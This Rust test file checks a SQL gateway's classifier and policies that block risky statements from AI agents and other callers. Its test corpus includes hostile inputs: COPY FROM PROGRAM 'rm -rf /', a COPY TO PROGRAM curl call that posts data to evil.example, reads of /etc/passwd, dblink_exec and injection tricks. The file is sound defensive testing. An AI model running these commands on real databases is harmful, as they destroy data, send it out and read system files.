//! Tricky SQL that must not slip past the guardrails: each line asserts what the statement is
//! and what two policies decide for it (a read-only resource, and a resource with rules).

use std::path::Path;
use time::macros::datetime;
use time::OffsetDateTime;
use tollgate_policy::{classify, Caller, Classification, Confirmation, Decision, ResourcePolicy};

const BASE: &str = r#"[server]
tls_cert = "gw.crt"
tls_key = "gw.key"

[[resources]]
name = "orders"
kind = "postgres"
upstream = "db.internal:5432"
allow_groups = ["agents", "sre"]
"#;

const TAIL: &str = r#"[resources.tls]
ca = "ca.crt"
[resources.credentials]
user = "u"
"#;

const RULES: &str = r#"
[[resources.rules]]
name = "no ddl"
statements = ["ddl"]
action = "deny"
message = "schema changes go through migrations"

[[resources.rules]]
name = "no shell"
statements = ["copy_program", "do"]
action = "deny"

[[resources.rules]]
name = "bulk"
statements = ["delete", "update"]
where_missing = true
action = "deny"

[[resources.rules]]
name = "agent writes"
statements = ["write"]
groups = ["agents"]
action = "review"
approvers = ["sre"]
min_approvals = 2
"#;

/// `resource_keys` go in the `[[resources]]` table, `rules` after it.
fn policy(resource_keys: &str, rules: &str) -> ResourcePolicy {
    let text = format!("{BASE}{resource_keys}{TAIL}{rules}");
    let config = tollgate_config::parse(&text, Path::new("/t/tollgate.toml")).unwrap();
    let p = ResourcePolicy::from_config(&config.resources[0]).unwrap();
    // What the gateway learns from an upstream's catalog (a few of PostgreSQL's built-ins).
    p.set_catalog(
        BUILTINS.iter().map(|s| s.to_string()),
        ["lower".to_string(), "my_func".to_string()],
    );
    p
}

/// A new session, as the gateway starts one: the catalog is reloaded first when something may
/// have defined functions since it was read.
fn session(p: &ResourcePolicy) -> tollgate_policy::SessionPolicy {
    if p.needs_catalog() {
        p.set_catalog(
            BUILTINS.iter().map(|s| s.to_string()),
            ["lower".to_string(), "my_func".to_string()],
        );
    }
    p.session()
}

/// Built-in function names the policies under test know; `lower` is also defined outside
/// pg_catalog (shadowed), so an unqualified call of it is opaque.
const BUILTINS: &[&str] = &[
    "count",
    "now",
    "generate_series",
    "lower",
    "upper",
    "sum",
    "max",
    "min",
    "length",
    "pg_terminate_backend",
    "set_config",
    "nextval",
    "coalesce",
    "substring",
    "abs",
    "pg_sleep",
    "current_setting",
    "lo_import",
    "dblink_exec",
    "query_to_xml",
];

fn read_only() -> ResourcePolicy {
    policy("read_only = true\n", "")
}

fn ruled() -> ResourcePolicy {
    policy("", RULES)
}

const AGENT_GROUPS: &[&str] = &["agents"];
const NOON: OffsetDateTime = datetime!(2026-11-25 12:00 UTC);

fn agent_groups() -> Vec<String> {
    AGENT_GROUPS.iter().map(|s| s.to_string()).collect()
}

#[derive(Debug, Clone, Copy)]
enum Want {
    Allow,
    Deny(&'static str),
    Review(&'static str),
}
use Want::*;

fn matches(d: &Decision, want: Want) -> bool {
    match (d, want) {
        (Decision::Allow { .. }, Allow) => true,
        (Decision::Deny { rule, .. }, Deny(r)) => rule == r,
        (Decision::Review { rule, .. }, Review(r)) => rule == r,
        _ => false,
    }
}

/// All kind names of all statements in `sql`.
fn kinds(sql: &str) -> Vec<&'static str> {
    match classify(sql) {
        Classification::Statements(s) => s.iter().flat_map(|s| s.kind_names()).collect(),
        Classification::Unparsable { .. } => vec!["unparsable"],
    }
}

/// (sql, kind names it must include, read-only decision, rules decision for an agent)
const CORPUS: &[(&str, &[&str], Want, Want)] = &[
    ("SELECT 1", &["select"], Allow, Allow),
    (
        "/* */ DROP TABLE t",
        &["ddl", "drop"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "/* DROP */ SELECT 1 -- ; DROP TABLE t",
        &["select"],
        Allow,
        Allow,
    ),
    (
        "DrOp TaBlE \"Weird\"\"Name\"",
        &["ddl", "drop"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    ("SELECT ';DROP TABLE t'", &["select"], Allow, Allow),
    ("SELECT $$; DROP TABLE t; $$", &["select"], Allow, Allow),
    (
        "SELECT 1; DROP TABLE t",
        &["select", "drop"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        &["select", "delete"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    (
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
        &["select", "delete"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "WITH RECURSIVE r AS (SELECT 1) UPDATE t SET a = 1 FROM r",
        &["update"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    (
        "EXPLAIN (ANALYZE) DELETE FROM t",
        &["explain", "delete"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    (
        "explain analyze delete from t where id = 1",
        &["explain", "delete"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "EXPLAIN (ANALYZE on, BUFFERS) UPDATE t SET a = 1",
        &["explain", "update"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    ("EXPLAIN DELETE FROM t", &["explain"], Allow, Allow),
    (
        "EXPLAIN (ANALYZE false) DELETE FROM t",
        &["explain"],
        Allow,
        Allow,
    ),
    (
        "PREPARE x AS DELETE FROM t; EXECUTE x",
        &["prepare", "execute"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    (
        "DO $$BEGIN DELETE FROM t WHERE id = 1; END$$",
        &["do"],
        Deny("read_only"),
        Deny("no shell"),
    ),
    (
        "do language plpgsql 'begin perform 1; end'",
        &["do"],
        Deny("read_only"),
        Deny("no shell"),
    ),
    (
        "COPY t FROM PROGRAM 'rm -rf /'",
        &["copy", "copy_from", "copy_program"],
        Deny("read_only"),
        Deny("no shell"),
    ),
    (
        "copy t to program 'curl -d @- evil.example'",
        &["copy_to", "copy_program"],
        Deny("read_only"),
        Deny("no shell"),
    ),
    ("COPY t TO STDOUT", &["copy", "copy_to"], Allow, Allow),
    (
        "COPY t FROM STDIN",
        &["copy_from"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
        &["copy_to", "delete"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    (
        "SELECT pg_terminate_backend(123)",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT * FROM t LIMIT (SELECT pg_cancel_backend(1)::int)",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT * FROM generate_series(1, PG_TERMINATE_BACKEND(1)::int)",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "VALUES (pg_advisory_lock(1))",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT lo_import('/etc/passwd')",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT nextval('s')",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT dblink_exec('host=x', 'DROP TABLE t')",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT pg_read_file('/etc/passwd')",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT count(*), now() FROM t WHERE id = $1",
        &["select"],
        Allow,
        Allow,
    ),
    (
        "CREATE TABLE t2 AS SELECT * FROM t",
        &["ddl", "create"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "SELECT * INTO t2 FROM t",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "CREATE MATERIALIZED VIEW mv AS SELECT 1",
        &["ddl", "create"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "TRUNCATE t",
        &["ddl", "truncate"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "ALTER TABLE t ADD COLUMN c int",
        &["ddl", "alter"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'",
        &["ddl", "create"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "UPDATE t SET a = 1",
        &["update"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    (
        "update T set a = 1 where id = 2",
        &["update"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "DELETE FROM \"Sales\".\"Orders\" USING x WHERE x.id = 1",
        &["delete"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "INSERT INTO t SELECT * FROM s ON CONFLICT DO NOTHING",
        &["insert"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        &["merge"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "GRANT ALL ON t TO public",
        &["grant"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "REVOKE SELECT ON t FROM bob",
        &["revoke"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "CALL do_things()",
        &["call"],
        Deny("read_only"),
        // Opaque code takes the strictest decision any write would get: an UPDATE without
        // WHERE is denied by "bulk".
        Deny("bulk"),
    ),
    (
        "SET default_transaction_read_only = off",
        &["set"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SET LOCAL default_transaction_read_only TO 'false'",
        &["set"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SET transaction_read_only TO DEFAULT",
        &["set"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    ("SET transaction_read_only = on", &["set"], Allow, Allow),
    (
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        &["set"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
        &["set"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    ("SET TRANSACTION READ ONLY", &["set"], Allow, Allow),
    (
        "BEGIN READ WRITE",
        &["transaction", "begin"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ WRITE",
        &["begin"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "BEGIN; SELECT 1; COMMIT",
        &["begin", "select", "commit"],
        Allow,
        Allow,
    ),
    (
        "RESET default_transaction_read_only",
        &["reset"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "RESET ALL",
        &["reset"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "DISCARD ALL",
        &["discard"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    ("SET search_path = public", &["set"], Allow, Allow),
    // The gateway parses with standard_conforming_strings on and UTF8: a client must not change
    // how the server reads strings, or 'a\' , ' ; DROP TABLE t ; --' hides a DROP from it.
    (
        "SET standard_conforming_strings = off",
        &["set"],
        Deny("sql_safety"),
        Deny("sql_safety"),
    ),
    (
        "SET standard_conforming_strings = on",
        &["set"],
        Allow,
        Allow,
    ),
    (
        "SET NAMES 'SJIS'",
        &["set"],
        Deny("sql_safety"),
        Deny("sql_safety"),
    ),
    ("SET client_encoding = 'UTF8'", &["set"], Allow, Allow),
    (
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        &["select"],
        Deny("sql_safety"),
        Deny("sql_safety"),
    ),
    (
        "SELECT set_config(lower('STANDARD_CONFORMING_STRINGS'), 'off', false)",
        &["select"],
        Deny("sql_safety"),
        Deny("sql_safety"),
    ),
    (
        "SELECT set_config('application_name', 'x', false)",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    ("SHOW transaction_read_only", &["show"], Allow, Allow),
    ("LISTEN jobs", &["listen"], Allow, Allow),
    (
        "NOTIFY jobs, 'x'",
        &["notify"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "VACUUM t",
        &["vacuum"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "REFRESH MATERIALIZED VIEW mv",
        &["refresh"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELEC 1",
        &["unparsable"],
        Deny("unparsable"),
        Deny("unparsable"),
    ),
    (
        "SELECT 1\0; DROP TABLE t",
        &["unparsable"],
        Deny("unparsable"),
        Deny("unparsable"),
    ),
];

#[test]
fn corpus() {
    assert!(CORPUS.len() >= 40);
    let (ro, rules) = (read_only(), ruled());
    let groups = agent_groups();
    let who = Caller {
        subject: "agent-7",
        groups: &groups,
    };
    let mut failures = Vec::new();
    for (sql, want_kinds, want_ro, want_rules) in CORPUS {
        let got = kinds(sql);
        if let Some(k) = want_kinds.iter().find(|k| !got.contains(k)) {
            failures.push(format!("{sql:?}: kind {k:?} missing from {got:?}"));
        }
        let d = session(&ro).decide_query(sql, &who, NOON);
        if !matches(&d, *want_ro) {
            failures.push(format!("{sql:?}: read-only: want {want_ro:?}, got {d:?}"));
        }
        let d = session(&rules).decide_query(sql, &who, NOON);
        if !matches(&d, *want_rules) {
            failures.push(format!("{sql:?}: rules: want {want_rules:?}, got {d:?}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn tables_and_functions_are_reported_as_written() {
    let c = classify("DrOp TaBlE \"Weird\"\"Name\", public.orders");
    assert_eq!(
        c.statements()[0].tables,
        vec!["Weird\"Name", "public.orders"]
    );
    let c = classify(
        "DELETE FROM \"Sales\".\"Orders\" o USING x WHERE o.id = x.id AND lower(x.n) = 'a'",
    );
    assert_eq!(c.statements()[0].tables, vec!["Sales.Orders", "x"]);
    assert_eq!(c.statements()[0].functions, vec!["lower"]);
    assert!(!c.statements()[0].where_missing);
    let c = classify("SELECT * INTO archive.t2 FROM t");
    assert_eq!(c.statements()[0].tables, vec!["archive.t2", "t"]);
}

#[test]
fn prepared_statements_are_judged_when_executed() {
    let rules = ruled();
    let groups = agent_groups();
    let who = Caller {
        subject: "agent-7",
        groups: &groups,
    };
    let mut s = session(&rules);
    // PREPARE itself runs nothing.
    let j = s.judge_query("PREPARE p AS DELETE FROM t WHERE id = $1", &who, NOON);
    assert!(matches(&j.decision, Allow));
    assert!(matches(
        &s.decide_query("EXECUTE p(1)", &who, NOON),
        Review("agent writes")
    ));
    assert!(matches(
        &s.decide_query("EXPLAIN ANALYZE EXECUTE p(1)", &who, NOON),
        Review("agent writes")
    ));
    assert!(matches(
        &s.decide_query("EXPLAIN EXECUTE p(1)", &who, NOON),
        Allow
    ));
    // Preparing the same name again (the upstream refuses it) does not launder it.
    let again = s.judge_query("PREPARE p AS SELECT 1", &who, NOON);
    assert!(matches(&again.decision, Allow));
    assert!(matches(
        &s.decide_query("EXECUTE p", &who, NOON),
        Review("agent writes")
    ));
    // ...and once the upstream refused it, p is what it was.
    for seq in again.effects {
        s.confirm(seq, Confirmation::Failed);
    }
    assert!(matches(
        &s.decide_query("EXECUTE p", &who, NOON),
        Review("agent writes")
    ));
    // A DEALLOCATE is applied only when the adapter confirms it ran.
    let dealloc = s.judge_query("DEALLOCATE p", &who, NOON);
    assert!(matches(
        &s.decide_query("EXECUTE p", &who, NOON),
        Review("agent writes")
    ));
    for seq in dealloc.effects {
        s.confirm(seq, Confirmation::Done);
    }
    assert!(matches(
        &s.decide_query("EXECUTE p", &who, NOON),
        Deny("unparsable")
    ));
    // Unknown portals are not trusted.
    assert!(matches(
        &s.judge_execute("never", &who, NOON).decision,
        Deny("unparsable")
    ));
    // A denied PREPARE is not remembered as anything harmless either.
    let d = s.decide_query("PREPARE q AS UPDATE t SET a = 1; DROP TABLE t", &who, NOON);
    assert!(matches(&d, Deny("no ddl")), "{d:?}");

    // Protocol level: Parse remembers, Bind fixes what the portal runs, Execute decides.
    let exec = |s: &mut tollgate_policy::SessionPolicy, portal: &str| {
        s.judge_execute(portal, &who, NOON).decision
    };
    s.parse("s1", "DELETE FROM t").unwrap();
    s.parse("s2", "SELECT abalance FROM pgbench_accounts WHERE aid = $1")
        .unwrap();
    s.bind("p1", "s1").unwrap();
    s.bind("p2", "s2").unwrap();
    assert!(matches(&exec(&mut s, "p1"), Deny("bulk")));
    assert!(matches(&exec(&mut s, "p2"), Allow));
    // SQL EXECUTE of a protocol-prepared name: one namespace.
    assert!(matches(
        &s.decide_query("EXECUTE s1", &who, NOON),
        Deny("bulk")
    ));
    // The unnamed statement is replaced by each Parse (within a pipeline, the last one is
    // certain: had it failed, the server would skip the Bind).
    s.parse("", "DROP TABLE t").unwrap();
    s.bind("", "").unwrap();
    assert!(matches(&exec(&mut s, ""), Deny("no ddl")));
    s.parse("", "SELECT 1").unwrap();
    s.bind("", "").unwrap();
    assert!(matches(&exec(&mut s, ""), Allow));
    s.parse("", "SELEC 1").unwrap();
    s.bind("", "").unwrap();
    assert!(matches(&exec(&mut s, ""), Deny("unparsable")));
    // A protocol-level Parse of SQL EXECUTE runs what that name holds; cycles fail closed.
    s.parse("via", "EXECUTE s1").unwrap();
    s.bind("pv", "via").unwrap();
    assert!(matches(&exec(&mut s, "pv"), Deny("bulk")));
    s.parse("loop_a", "EXECUTE loop_b").unwrap();
    s.parse("loop_b", "EXECUTE loop_a").unwrap();
    s.bind("pl", "loop_a").unwrap();
    assert!(matches(&exec(&mut s, "pl"), Deny("unparsable")));
    // A protocol-level Parse of SQL PREPARE: the name it prepares is known once it runs.
    s.parse("", "PREPARE inner_q AS DELETE FROM t").unwrap();
    s.bind("", "").unwrap();
    let j = s.judge_execute("", &who, NOON);
    assert!(matches(&j.decision, Allow));
    assert_eq!(j.effects.len(), 1);
    assert!(matches(
        &s.decide_query("EXECUTE inner_q", &who, NOON),
        Deny("bulk")
    ));
}

#[test]
fn a_portal_runs_what_it_was_bound_to() {
    let rules = ruled();
    let groups = agent_groups();
    let who = Caller {
        subject: "agent-7",
        groups: &groups,
    };
    // Parse "" as DROP, bind it, Parse "" again as SELECT, execute the portal: the DROP runs.
    let mut s = session(&rules);
    s.parse("", "DROP TABLE t").unwrap();
    s.bind("", "").unwrap();
    s.parse("", "SELECT 1").unwrap();
    assert!(matches(
        &s.judge_execute("", &who, NOON).decision,
        Deny("no ddl")
    ));
    // The same with a named statement closed and parsed again between Bind and Execute.
    let mut s = session(&rules);
    s.parse("st", "DROP TABLE t").unwrap();
    s.bind("p", "st").unwrap();
    let close = s.close(false, "st").unwrap();
    s.parse("st", "SELECT 1").unwrap();
    s.confirm(close, Confirmation::Done);
    assert!(matches(
        &s.judge_execute("p", &who, NOON).decision,
        Deny("no ddl")
    ));
    // Across a Sync, until the server answers, a name may still hold its older content.
    let mut s = session(&rules);
    let first = s.parse("st", "DROP TABLE t").unwrap();
    s.sync();
    s.confirm(first, Confirmation::Done);
    let close = s.close(false, "st").unwrap();
    let second = s.parse("st", "SELECT 1").unwrap();
    s.sync();
    s.bind("p", "st").unwrap();
    assert!(matches(
        &s.judge_execute("p", &who, NOON).decision,
        Deny("no ddl")
    ));
    // Once both are confirmed, only the SELECT is left.
    s.confirm(close, Confirmation::Done);
    s.confirm(second, Confirmation::Done);
    s.sync();
    s.bind("p", "st").unwrap();
    assert!(matches(&s.judge_execute("p", &who, NOON).decision, Allow));
    // A Close the server skipped leaves the statement in place.
    let mut s = session(&rules);
    let p = s.parse("st", "DROP TABLE t").unwrap();
    s.confirm(p, Confirmation::Done);
    let close = s.close(false, "st").unwrap();
    s.confirm(close, Confirmation::Skipped);
    s.sync();
    s.bind("x", "st").unwrap();
    assert!(matches(
        &s.judge_execute("x", &who, NOON).decision,
        Deny("no ddl")
    ));
}

#[test]
fn per_session_limits_are_enforced() {
    let p = policy(
        "max_prepared_statements = 3
max_portals = 2
",
        RULES,
    );
    let mut s = session(&p);
    for i in 0..3 {
        s.parse(&format!("s{i}"), "SELECT 1").unwrap();
    }
    let e = s.parse("s3", "SELECT 1").unwrap_err();
    assert_eq!(e.limit, 3);
    assert!(
        e.to_string().contains("too many prepared statements"),
        "{e}"
    );
    // Re-parsing a name it holds is not a new statement.
    s.parse("s0", "SELECT 2").unwrap();
    s.bind("a", "s0").unwrap();
    s.bind("b", "s0").unwrap();
    assert!(s.bind("c", "s0").is_err());
    let groups = agent_groups();
    let who = Caller {
        subject: "agent-7",
        groups: &groups,
    };
    let d = s.decide_query("PREPARE s9 AS SELECT 1", &who, NOON);
    assert!(matches(&d, Deny("limits")), "{d:?}");
}

#[test]
fn read_only_denial_says_so_and_cannot_be_lifted() {
    let ro = read_only();
    let groups = vec!["sre".to_string()];
    let who = Caller {
        subject: "alice",
        groups: &groups,
    };
    let mut s = session(&ro);
    match s.decide_query("drop table t", &who, NOON) {
        Decision::Deny { rule, message } => {
            assert_eq!(rule, "read_only");
            assert_eq!(
                message,
                "resource \"orders\" is read-only: DROP is not allowed (rule \"read_only\")"
            );
        }
        d => panic!("{d:?}"),
    }
    match s.decide_query("SELECT 1, pg_catalog.pg_terminate_backend(7)", &who, NOON) {
        Decision::Deny { message, .. } => assert_eq!(
            message,
            "resource \"orders\" is read-only: calling pg_catalog.pg_terminate_backend() is not allowed (rule \"read_only\")"
        ),
        d => panic!("{d:?}"),
    }
    // An allow rule does not open a read-only resource.
    let open = policy(
        "read_only = true\n",
        "[[resources.rules]]\nstatements = [\"delete\"]\naction = \"allow\"\n",
    );
    let d = session(&open).decide_query("DELETE FROM t WHERE id = 1", &who, NOON);
    assert!(matches(&d, Deny("read_only")), "{d:?}");
    // Unparsable statements cannot be shown to be reads, even with unparsable = "allow".
    let lax = policy("read_only = true\nunparsable = \"allow\"\n", "");
    assert!(matches(
        &session(&lax).decide_query("SELEC 1", &who, NOON),
        Deny("unparsable")
    ));
    let lax = policy("unparsable = \"allow\"\n", "");
    assert!(matches(
        &session(&lax).decide_query("SELEC 1", &who, NOON),
        Allow
    ));
    // Extra writing functions from config.
    let custom = policy(
        "read_only = true\nwriting_functions = [\"audit.log_*\"]\n",
        "",
    );
    assert!(matches(
        &session(&custom).decide_query("SELECT audit.log_event('x')", &who, NOON),
        Deny("read_only")
    ));
    // A user-defined function is opaque: it may write, so a read-only resource refuses it,
    // unless it is listed in trusted_functions.
    assert!(matches(
        &session(&custom).decide_query("SELECT audit.read_event('x')", &who, NOON),
        Deny("read_only")
    ));
    let trusted = policy(
        "read_only = true\ntrusted_functions = [\"audit.read_*\"]\n",
        "",
    );
    assert!(matches(
        &session(&trusted).decide_query("SELECT audit.read_event('x')", &who, NOON),
        Allow
    ));
    // opaque_code = "kind" judges it by its own kind, as before.
    let by_kind = policy("read_only = true\nopaque_code = \"kind\"\n", "");
    assert!(matches(
        &session(&by_kind).decide_query("SELECT audit.read_event('x')", &who, NOON),
        Allow
    ));
}

#[test]
fn opaque_code_is_judged_as_any_write() {
    let p = policy(
        "",
        "[[resources.rules]]\nname = \"no drop\"\nstatements = [\"drop\"]\naction = \"deny\"\n[[resources.rules]]\nname = \"hold deletes\"\nstatements = [\"delete\", \"update\"]\ngroups = [\"agents\"]\naction = \"review\"\napprovers = [\"sre\"]\n[[resources.rules]]\nname = \"payments\"\ntables = [\"payments\"]\nstatements = [\"insert\"]\naction = \"review\"\napprovers = [\"sre\"]\n",
    );
    let groups = agent_groups();
    let agent = Caller {
        subject: "agent-7",
        groups: &groups,
    };
    let sre_groups = vec!["sre".to_string()];
    let sre = Caller {
        subject: "alice",
        groups: &sre_groups,
    };
    let d = |who: &Caller, sql: &str| session(&p).decide_query(sql, who, NOON);
    // A DO block may drop: denied, and the message says why.
    match d(&agent, "DO $$ BEGIN EXECUTE 'drop table t'; END $$") {
        Decision::Deny { rule, message } => {
            assert_eq!(rule, "no drop");
            assert!(message.contains("cannot inspect"), "{message}");
            assert!(message.contains("DROP"), "{message}");
        }
        other => panic!("{other:?}"),
    }
    assert!(matches(&d(&sre, "CALL purge()"), Deny("no drop")));
    // A user-defined function in a SELECT, a shadowed built-in, a schema-qualified name.
    assert!(matches(&d(&agent, "SELECT app.cleanup()"), Deny("no drop")));
    assert!(matches(&d(&agent, "SELECT lower('X')"), Deny("no drop")));
    assert!(matches(&d(&agent, "SELECT pg_catalog.lower('X')"), Allow));
    assert!(matches(&d(&agent, "SELECT my_func()"), Deny("no drop")));
    // Known built-ins are not opaque.
    assert!(matches(&d(&agent, "SELECT count(*), now() FROM t"), Allow));
    // Without a drop rule, the strictest write decision is the review of deletes; a table
    // condition on a restrictive rule holds for code that may touch any table.
    let q = policy(
        "",
        "[[resources.rules]]\nname = \"payments\"\ntables = [\"payments\"]\nstatements = [\"insert\"]\naction = \"review\"\napprovers = [\"sre\"]\n",
    );
    assert!(matches(
        &session(&q).decide_query("SELECT app.f()", &agent, NOON),
        Review("payments")
    ));
    assert!(matches(
        &session(&q).decide_query("SELECT 1 FROM orders", &agent, NOON),
        Allow
    ));
    // MERGE counts as every action it contains.
    let merge = "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE";
    assert!(kinds(merge).contains(&"delete"));
    assert!(matches(&d(&agent, merge), Review("hold deletes")));
    assert!(
        !kinds("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING")
            .contains(&"delete")
    );
    // Settings written through the catalog or set_config count as `set`.
    assert!(kinds("UPDATE pg_settings SET setting = 'off' WHERE name = 'x'").contains(&"set"));
    assert!(kinds("SELECT set_config('app.tenant', '5', false)").contains(&"set"));
    assert!(kinds("ALTER ROLE bob SET standard_conforming_strings = off").contains(&"set"));
    assert!(kinds("ALTER DATABASE d SET client_encoding = 'SJIS'").contains(&"set"));
}

#[test]
fn dry_run_rules_record_and_do_not_enforce() {
    let p = policy(
        "",
        "[[resources.rules]]\nname = \"would deny\"\nstatements = [\"delete\"]\naction = \"deny\"\ndry_run = true\n[[resources.rules]]\nname = \"hold\"\nstatements = [\"delete\"]\naction = \"review\"\n",
    );
    let groups = agent_groups();
    let who = Caller {
        subject: "agent-7",
        groups: &groups,
    };
    let j = session(&p).judge_query("DELETE FROM t WHERE id = 1", &who, NOON);
    assert!(matches(&j.decision, Review("hold")));
    assert!(matches(j.dry_run.as_ref().unwrap(), Deny("would deny")));
    // A dry-run resource enforces none of its rules.
    let all = policy(
        "dry_run = true\n",
        "[[resources.rules]]\nname = \"no delete\"\nstatements = [\"delete\"]\naction = \"deny\"\n",
    );
    let j = session(&all).judge_query("DELETE FROM t WHERE id = 1", &who, NOON);
    assert!(j.decision.is_allow());
    assert!(matches(j.dry_run.as_ref().unwrap(), Deny("no delete")));
    // Nothing to record when the dry run would change nothing.
    let j = session(&all).judge_query("SELECT 1", &who, NOON);
    assert!(j.dry_run.is_none());
}
